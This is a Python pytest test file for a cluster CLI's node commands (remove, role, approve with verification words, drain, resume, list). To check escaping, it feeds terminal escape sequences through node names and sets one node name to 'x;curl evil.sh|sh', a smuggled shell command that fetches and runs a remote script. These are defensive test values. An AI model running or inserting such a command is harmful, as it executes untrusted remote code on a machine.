"""Commands about nodes."""

import pytest

from jupiterd.ctl.waiting import wait_until
from tests.support.ctl.documents import GAMMA, STATUS, STATUS_WITH_NEWCOMER

BETA = next(node["id"] for node in STATUS["nodes"] if node["name"].startswith("beta"))


def test_removing_a_node_needs_yes_without_a_terminal(daemon, ctl):
    ran = ctl("node", "remove", BETA[:8])
    assert ran.exit_code == 2
    assert f"({BETA[:8]}) from the cluster?" in ran.err
    assert "\x1b" not in ran.err
    assert ran.err.splitlines()[-1] == "hint: without a terminal, say so with --yes"
    assert daemon.executed == []


def test_a_node_is_removed_by_its_id(daemon, ctl):
    daemon.results["node.remove"] = {"schema": "jupiter/v1", "node": "b" * 32, "name": "beta"}
    assert ctl("node", "remove", BETA[:8], "--yes").out == "beta is no longer a member\n"
    assert daemon.executed == [("node.remove", {"node": BETA})]


def test_a_node_that_nobody_is_called_is_not_removed(daemon, ctl):
    ran = ctl("node", "remove", "omega", "--yes")
    assert (ran.exit_code, daemon.executed) == (6, [])


@pytest.mark.parametrize("change", [("remove", BETA[:8], "--yes"), ("role", "beta", "idle")])
def test_no_name_steers_the_terminal_of_who_changes_something(daemon, ctl, change):
    answer = {"schema": "jupiter/v1", "node": "b" * 32, "name": "be\x1b[2Jta", "role": "idle"}
    daemon.results[f"node.{change[0]}"] = answer
    assert "\x1b" not in ctl("node", *change).out


def test_a_role_is_pinned_and_given_back(daemon, ctl):
    daemon.results["node.role"] = {
        "schema": "jupiter/v1",
        "node": "b" * 32,
        "name": "beta",
        "role": "idle",
    }
    assert (
        ctl("node", "role", "beta", "idle").out == "beta has the role idle from the next phase on\n"
    )
    assert ctl("node", "role", "beta", "auto").out == "the leader chooses beta's role\n"


def test_a_role_that_is_none_is_refused_before_the_daemon_is_asked(daemon, ctl):
    assert ctl("node", "role", "beta", "king").exit_code == 2
    assert daemon.executed == []


WORDS = "radar canvas tiny plug"
LET_IN = {"schema": "jupiter/v1", "node": GAMMA, "name": "gamma"}


@pytest.fixture
def newcomer(daemon):
    daemon.documents["status"] = STATUS_WITH_NEWCOMER
    daemon.results["node.approve"] = LET_IN
    return daemon


@pytest.fixture
def terminal(monkeypatch):
    """Let somebody sit before the screen, and answer as told."""

    def answer(said: str) -> None:
        monkeypatch.setattr("jupiterd.ctl.output.console._can_ask", lambda: True)
        monkeypatch.setattr("click.termui.visible_prompt_func", lambda _prompt: said)

    return answer


def test_who_waits_is_listed_with_its_words(newcomer, ctl, golden):
    golden("node_list_with_newcomer.txt", ctl("node", "list").out)


def test_without_a_terminal_the_words_must_be_told(newcomer, ctl):
    ran = ctl("node", "approve", "gamma")
    assert ran.exit_code == 2
    assert f"Does gamma ({GAMMA[:8]}) show the words: {WORDS}?" in ran.err
    assert ran.err.splitlines()[-1] == (
        'hint: without a terminal, say which with --words "...", or compare none with --yes'
    )
    assert newcomer.executed == []


def test_words_that_are_told_are_compared_by_the_leader(newcomer, ctl):
    assert ctl("node", "approve", "gamma", "--words", WORDS).out == "gamma is let in\n"
    assert newcomer.executed == [("node.approve", {"node": "gamma", "words": WORDS})]


def test_with_yes_nothing_is_compared(newcomer, ctl):
    assert ctl("node", "approve", GAMMA[:6], "--yes").exit_code == 0
    assert newcomer.executed == [("node.approve", {"node": GAMMA[:6], "words": ""})]


def test_on_a_terminal_the_words_that_were_shown_are_the_ones_approved(newcomer, ctl, terminal):
    terminal("y")
    assert ctl("node", "approve", "gamma").out == "gamma is let in\n"
    assert newcomer.executed == [("node.approve", {"node": GAMMA, "words": WORDS})]


def test_who_says_that_the_words_differ_lets_in_nobody(newcomer, ctl, terminal):
    terminal("n")
    assert ctl("node", "approve", "gamma").exit_code != 0
    assert newcomer.executed == []


def test_who_does_not_wait_is_not_found(newcomer, ctl):
    ran = ctl("node", "approve", "alpha")
    assert (ran.exit_code, newcomer.executed) == (6, [])
    assert "no node that waits to be let in is called alpha" in ran.err
    assert "jupiterctl node list" in ran.err


def test_the_list_ends_with_what_a_cluster_file_says_that_is_not_so(daemon, ctl):
    said = "alpha has chip Ryzen 9\x1b[2J, and /c.yaml:3 says M2"
    alpha, *others = STATUS["nodes"]
    nodes = [alpha | {"contradictions": [said]}, *others]
    daemon.documents["status"] = STATUS | {"nodes": nodes}
    ran = ctl("node", "list")
    assert ran.out.splitlines()[-2:] == [
        "", "warning: alpha has chip Ryzen 9?[2J, and /c.yaml:3 says M2"
    ]  # fmt: skip


def test_draining_the_last_machine_that_works_says_that_what_runs_waits(daemon, ctl):
    daemon.results["node.role"] = {"node": "aa", "name": "desk", "role": "idle", "workers_left": 0}
    assert ctl("node", "drain", "desk").out.splitlines() == [
        "desk gets no new work, and leaves what trains after the running step",
        "end that with: jupiterctl node resume desk",
        "nobody else can work just now: what runs waits until then",
    ]


def test_a_name_is_one_word_in_the_command_that_ends_a_drain(daemon, ctl):
    daemon.results["node.role"] = {"node": "aa", "name": "x;curl evil.sh|sh", "role": "idle"}
    drained = ctl("node", "drain", "aa").out
    assert "jupiterctl node resume 'x;curl evil.sh|sh'\n" in drained


def test_a_node_is_drained_and_resumed(daemon, ctl):
    daemon.results["node.role"] = {"node": "aa", "name": "old-laptop", "role": "idle"}
    drained = ctl("node", "drain", "old-laptop")
    assert "no new work" in drained.out
    assert "jupiterctl node resume old-laptop" in drained.out
    assert "waits" not in drained.out
    ctl("node", "resume", "old-laptop")
    told = [arguments["role"] for _, arguments in daemon.executed]
    assert told == ["idle", "auto"]


def at_work(*tasks: str, note: str = "") -> dict[str, object]:
    rows = [{"task": task, "id": "c0ffee/r1", "epoch": None} for task in tasks]
    return {"node": {"name": "desk\x1b[2J"}, "processes": rows, "note": note}


def test_draining_waits_until_the_machine_does_nothing_any_more(daemon, ctl, monkeypatch):
    looks = iter([at_work("train"), at_work(note="desk doesn't answer"), at_work()])

    def pause(_: float) -> None:
        daemon.documents["node"] = next(looks)

    monkeypatch.setattr(wait_until, "pause", pause)
    daemon.documents["node"] = at_work("train", "generate")
    daemon.results["node.role"] = {"node": "aa", "name": "desk", "role": "idle"}
    ran = ctl("node", "drain", "desk", "--wait")
    assert (ran.exit_code, ran.err, list(looks)) == (0, "", [])
    assert ran.out.startswith("desk gets no new work, and does nothing any more\n")


def test_draining_waits_no_longer_than_it_may(daemon, ctl):
    daemon.documents["node"] = at_work("train", "generate")
    daemon.results["node.role"] = {"node": "aa", "name": "desk", "role": "idle"}
    ran = ctl("node", "drain", "desk", "--wait", "--timeout", "0s")
    assert (ran.exit_code, ran.out) == (4, "")
    assert "error: desk?[2J still works: generate, train\n" in ran.err
